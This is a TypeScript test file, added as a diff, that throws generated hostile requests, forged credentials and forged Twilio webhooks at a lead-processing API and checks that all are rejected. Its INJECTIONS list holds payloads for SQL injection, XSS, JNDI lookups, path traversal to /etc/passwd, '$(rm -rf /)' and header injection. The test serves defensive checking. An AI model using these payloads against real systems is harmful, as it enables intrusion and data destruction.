@@ -1,0 +1,334 @@
+/**
+ * Scenario 6: hostile input. Generated create bodies (fast-check) are all refused with a 4xx and store
+ * nothing; forged, unsigned and replayed-with-changed-body Twilio webhooks are 401 and change nothing; bad
+ * API keys and near-miss internal tokens are 401; bodies over 256 KB are 413.
+ */
+import fc from "fast-check";
+import { ApiKeysTable, createDocumentClient, tableNames } from "lead-processor";
+import { seed } from "sandbox";
+import { actOnRequest } from "../support/factories";
+import { conversation, postWebhook, twilioSignature, webhookUrl } from "../support/twilio";
+import { createLead, ingress, leadState, twilioSynced, web2TextLead } from "../support/web2text";
+import { type Context, freshPhone, pooled } from "./context";
+import { type ScenarioResult, Tally } from "./scorecard";
+
+type Json = Record<string, unknown>;
+interface Hostile {
+    kind: string;
+    /** A JSON value, or raw text sent as is. */
+    body: unknown;
+    raw?: string;
+    leadId?: string;
+}
+
+const INJECTIONS = [
+    "'; DROP TABLE leads; --",
+    '" OR "1"="1',
+    "<script>alert(1)</script>",
+    `$\{jndi:ldap://x.example/a}`,
+    "{{7*7}}",
+    "../../../../etc/passwd",
+    "\u0000\u0001\u202e",
+    "$(rm -rf /)",
+    '{"$gt": ""}',
+    "%00%0d%0aSet-Cookie: x=y",
+];
+const hostileString = fc.oneof(
+    fc.constantFrom(...INJECTIONS),
+    fc.string({ unit: "grapheme", maxLength: 40 }),
+    fc.string({ unit: "binary", maxLength: 40 }),
+);
+const notUuid = hostileString.filter(
+    (s) => !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(s.trim()),
+);
+const notPhone = hostileString.filter((s) => (s.match(/\d/g) ?? []).length < 7);
+const notEmail = hostileString.filter((s) => !/^[^@\s]+@[^@\s]+\.[^@\s]+$/.test(s.trim()));
+const notString = fc.oneof(
+    fc.integer(),
+    fc.boolean(),
+    fc.constant(null),
+    fc.array(hostileString, { maxLength: 3 }),
+    fc.object({ maxDepth: 1 }),
+);
+const MB = "x".repeat(1024 * 1024);
+
+function set(body: Json, path: string, value: unknown): Json {
+    const keys = path.split(".");
+    let node: Json = body;
+    for (const key of keys.slice(0, -1)) node = node[key] as Json;
+    node[keys.at(-1) ?? ""] = value;
+    return body;
+}
+function drop(body: Json, path: string): Json {
+    const keys = path.split(".");
+    let node: Json = body;
+    for (const key of keys.slice(0, -1)) node = node[key] as Json;
+    delete node[keys.at(-1) ?? ""];
+    return body;
+}
+
+function hostileBodies(ctx: Context): fc.Arbitrary<Hostile> {
+    const w2t = () => web2TextLead("chicago", freshPhone(ctx)) as Json;
+    const act = () => actOnRequest() as Json;
+    const base = fc.constantFrom<["WEB2TEXT" | "ACTON", () => Json]>(["WEB2TEXT", w2t], ["ACTON", act]);
+    const required = {
+        WEB2TEXT: [
+            "LeadType",
+            "UniversalRetailerId",
+            "Lead",
+            "Lead.LocationId",
+            "Lead.PageUrl",
+            "Lead.Name",
+            "Lead.PhoneNumber",
+            "Lead.CustomerMessage",
+        ],
+        ACTON: [
+            "LeadType",
+            "UniversalRetailerId",
+            "Lead",
+            "Lead.First Name",
+            "Lead.Last Name",
+            "Lead.E-mail Address",
+            "Lead.Home Postal Code",
+            "Lead.preferred_location",
+        ],
+    };
+    const strings = {
+        WEB2TEXT: [
+            "UniversalRetailerId",
+            "Lead.LocationId",
+            "Lead.PageUrl",
+            "Lead.Name",
+            "Lead.PhoneNumber",
+            "Lead.CustomerMessage",
+        ],
+        ACTON: [
+            "UniversalRetailerId",
+            "Lead.First Name",
+            "Lead.Last Name",
+            "Lead.E-mail Address",
+            "Lead.Home Postal Code",
+        ],
+    };
+    return fc.oneof(
+        base.chain(([type, make]) =>
+            fc
+                .tuple(fc.constantFrom(...strings[type]), notString)
+                .map(([path, v]) => ({ kind: "wrong type", body: set(make(), path, v) })),
+        ),
+        base.chain(([type, make]) =>
+            fc.constantFrom(...required[type]).map((path) => ({ kind: "missing field", body: drop(make(), path) })),
+        ),
+        base.chain(([, make]) =>
+            fc
+                .tuple(
+                    fc
+                        .string({ minLength: 1, maxLength: 12 })
+                        .filter((k) => !["LeadType", "UniversalRetailerId", "Lead", "SyncImmediately"].includes(k)),
+                    hostileString,
+                )
+                .map(([key, v]) => ({ kind: "extra field", body: { ...make(), [key]: v } })),
+        ),
+        base.chain(([type, make]) =>
+            fc.constantFrom(...strings[type]).map((path) => ({ kind: "1 MB string", body: set(make(), path, MB) })),
+        ),
+        base.chain(([, make]) =>
+            notUuid.map((v) => ({ kind: "invalid UUID", body: set(make(), "UniversalRetailerId", v) })),
+        ),
+        notPhone.map((v) => ({ kind: "invalid phone", body: set(w2t(), "Lead.PhoneNumber", v) })),
+        notEmail.map((v) => ({ kind: "invalid e-mail", body: set(act(), "Lead.E-mail Address", v) })),
+        fc
+            .oneof(fc.integer(), hostileString, fc.array(fc.integer(), { maxLength: 3 }), fc.constant(null))
+            .map((v) => ({ kind: "not an object", body: v })),
+        hostileString.map((s) => ({ kind: "not JSON", body: undefined, raw: `{"LeadType": ${s}` })),
+        notUuid.filter((s) => s.length > 0).map((s) => ({ kind: "invalid lead id", body: act(), leadId: s })),
+    );
+}
+
+async function post(
+    ctx: Context,
+    path: string,
+    text: string | undefined,
+    auth: string | null = `Bearer ${ctx.t.apiKey}`,
+) {
+    const headers: Record<string, string> = { "content-type": "application/json" };
+    if (auth !== null) headers.authorization = auth;
+    const res = await fetch(`${ctx.t.ingress}${path}`, {
+        method: "POST",
+        headers,
+        ...(text === undefined ? {} : { body: text }),
+    });
+    return { status: res.status, text: (await res.text()).slice(0, 160) };
+}
+
+/** A create that must be refused with `expected` (any 4xx when undefined) and leave no lead behind. */
+async function mustRefuse(
+    ctx: Context,
+    tally: Tally,
+    what: string,
+    text: string,
+    expected?: number,
+    auth?: string | null,
+    leadId?: string,
+) {
+    const id = leadId ?? crypto.randomUUID();
+    const res = await post(ctx, `/Lead/${encodeURIComponent(id)}/create`, text, auth);
+    const refused = expected === undefined ? res.status >= 400 && res.status < 500 : res.status === expected;
+    if (!refused)
+        return tally.attempt(`${what}: HTTP ${res.status} ${res.text}`, res.status < 400 ? "acceptedBad" : undefined);
+    if (leadId !== undefined) return tally.attempt();
+    const [state, item] = await Promise.all([leadState(ctx.t, id), ctx.leadStates.get(id)]);
+    if (state.Status !== "NONEXISTANT" || item !== undefined) {
+        return tally.attempt(
+            `${what}: refused with ${res.status} but stored (${state.Status}, item ${item !== undefined})`,
+            "acceptedBad",
+        );
+    }
+    tally.attempt();
+}
+
+export async function hostileInput(ctx: Context): Promise<ScenarioResult> {
+    const tally = new Tally("hostile input");
+    const kinds = new Map<string, number>();
+    const samples = fc.sample(hostileBodies(ctx), { numRuns: ctx.profile.hostileBodies, seed: ctx.seed });
+    await pooled(samples, 4, async (h) => {
+        kinds.set(h.kind, (kinds.get(h.kind) ?? 0) + 1);
+        const text = h.raw ?? JSON.stringify(h.body);
+        await mustRefuse(
+            ctx,
+            tally,
+            `${h.kind} ${text.slice(0, 80)}`,
+            text,
+            h.kind === "1 MB string" ? 413 : undefined,
+            undefined,
+            h.leadId,
+        );
+    });
+    tally.notes.push(`create bodies: ${[...kinds].map(([k, n]) => `${k} ${n}`).join(", ")}`);
+
+    // Oversized bodies: 413 before any parsing, on create and on sync.
+    const padded = JSON.stringify(actOnRequest({ Lead: { notes: "n".repeat(300 * 1024) } }));
+    await mustRefuse(ctx, tally, "300 KB create body", padded, 413);
+    const big = await post(ctx, `/Lead/${crypto.randomUUID()}/sync`, JSON.stringify({ pad: "p".repeat(300 * 1024) }));
+    tally.attempt(
+        big.status === 413 ? undefined : `300 KB sync body: HTTP ${big.status}`,
+        big.status < 400 ? "acceptedBad" : undefined,
+    );
+
+    await badCredentials(ctx, tally);
+    await forgedWebhooks(ctx, tally);
+    return tally.result();
+}
+
+async function badCredentials(ctx: Context, tally: Tally) {
+    const db = createDocumentClient({ region: "us-east-1", endpoint: ctx.stack.urls.dynamo });
+    const keys = new ApiKeysTable(db, tableNames(ctx.stack.tablePrefix).apiKeys);
+    const seedKey = async (active: boolean, endpoints: string[]) => {
+        const key = crypto.randomUUID();
+        await keys.put({
+            API_Key: key,
+            Active: active,
+            AuthorizedEndpoints: endpoints,
+            DateCreated: new Date().toISOString(),
+            Description: "reliability",
+        });
+        ctx.secrets.add(key);
+        return key;
+    };
+    const inactive = await seedKey(false, ["*"]);
+    const otherEndpoint = await seedKey(true, ["Lead/status", "Lead/sync"]);
+    const token = ctx.stack.internalToken;
+    const flip = (c: string) => (c === "a" ? "b" : "a");
+    const body = JSON.stringify(actOnRequest());
+    const cases: [string, string | null][] = [
+        ["no header", null],
+        ["inactive key", `Bearer ${inactive}`],
+        ["key for other endpoints", `Bearer ${otherEndpoint}`],
+        ["unknown key", `Bearer ${crypto.randomUUID()}`],
+        ["Basic scheme", `Basic ${ctx.t.apiKey}`],
+        ["three words", `Bearer ${ctx.t.apiKey} extra`],
+        ["not a UUID", "Bearer not-a-key"],
+        ["empty bearer", "Bearer "],
+        ["internal token, last char changed", `Bearer ${token.slice(0, -1)}${flip(token.at(-1) ?? "")}`],
+        ["internal token, first char changed", `Bearer ${flip(token[0] ?? "")}${token.slice(1)}`],
+        ["internal token + 1 char", `Bearer ${token}0`],
+        ["internal token − 1 char", `Bearer ${token.slice(0, -1)}`],
+        ["internal token doubled", `Bearer ${token}${token}`],
+        ["internal token upper-cased", `Bearer ${token.toUpperCase()}`],
+    ];
+    for (const [what, auth] of cases) await mustRefuse(ctx, tally, what, body, 401, auth);
+    // Control: the real internal token gets in (so the near misses above failed on the token alone).
+    const control = await ingress(ctx.t, `/Lead/${crypto.randomUUID()}/status`, {
+        method: "GET",
+        auth: `Bearer ${token}`,
+    });
+    tally.attempt(
+        control.status === 200 ? undefined : `internal token control: HTTP ${control.status} ${control.text}`,
+    );
+}
+
+async function forgedWebhooks(ctx: Context, tally: Tally) {
+    const phone = freshPhone(ctx);
+    const leadId = await createLead(ctx.t, web2TextLead("chicago", phone));
+    const twilio = await twilioSynced(ctx.t, leadId);
+    const before = JSON.stringify(await leadState(ctx.t, leadId));
+    const thread = await conversation(ctx.t, twilio.ConversationSID);
+    const forms: [string, Record<string, string>][] = [
+        [
+            "close",
+            {
+                EventType: "onConversationStateUpdated",
+                ConversationSid: twilio.ConversationSID,
+                StateFrom: "active",
+                StateTo: "closed",
+                Reason: "TIMER",
+            },
+        ],
+        ["onIncomingMessage", { From: phone, To: twilio.CustomerProxyNumber, Body: "STOP", OptOutType: "STOP" }],
+        ["sync", { EventType: "onMessageAdded", ConversationSid: twilio.ConversationSID }],
+    ];
+    const forgery = fc.tuple(
+        fc.constantFrom(...forms),
+        fc.constantFrom(
+            "unsigned",
+            "wrong token",
+            "random signature",
+            "replayed, body changed",
+            "signed for another handler",
+        ),
+        hostileString,
+    );
+    const attempts = fc.sample(forgery, { numRuns: ctx.profile.forgedWebhooks, seed: ctx.seed + 1 });
+    for (const [[handler, form], mode, noise] of attempts) {
+        const changed = { ...form, Body: `${form.Body ?? ""}${noise}x`, Extra: noise };
+        const url = webhookUrl(ctx.t, handler);
+        const [params, signature] = {
+            unsigned: [form, null] as const,
+            "wrong token": [form, twilioSignature(url, form, `${seed.twilio.authToken}x`)] as const,
+            "random signature": [form, Buffer.from(`${noise}sig`).toString("base64")] as const,
+            "replayed, body changed": [changed, twilioSignature(url, form)] as const,
+            "signed for another handler": [
+                form,
+                twilioSignature(webhookUrl(ctx.t, handler === "sync" ? "close" : "sync"), form),
+            ] as const,
+        }[mode];
+        const res = await postWebhook(ctx.t, handler, params, { signature });
+        tally.attempt(
+            res.status === 401 ? undefined : `${mode} ${handler}: HTTP ${res.status} ${res.text.slice(0, 120)}`,
+            res.status < 400 ? "acceptedBad" : undefined,
+        );
+    }
+    // Nothing changed: same lead state, same conversation, the customer still opted in.
+    const after = JSON.stringify(await leadState(ctx.t, leadId));
+    const threadAfter = await conversation(ctx.t, twilio.ConversationSID);
+    const optIn = await ingress(ctx.t, "/TwilioWebhooks/checkOptInStatus", { body: { PhoneNumber: phone } });
+    const changes = [
+        after !== before ? "lead state changed" : "",
+        threadAfter.state !== thread.state || threadAfter.messages.length !== thread.messages.length
+            ? "conversation changed"
+            : "",
+        JSON.stringify(optIn.body) !== JSON.stringify({ Status: "OPTED-IN" }) ? `opt-in ${optIn.text}` : "",
+    ].filter(Boolean);
+    tally.attempt(changes.length ? `forged webhooks changed state: ${changes.join(", ")}` : undefined, "acceptedBad");
+    tally.notes.push(`${attempts.length} forged/unsigned/replayed webhooks`);
+}
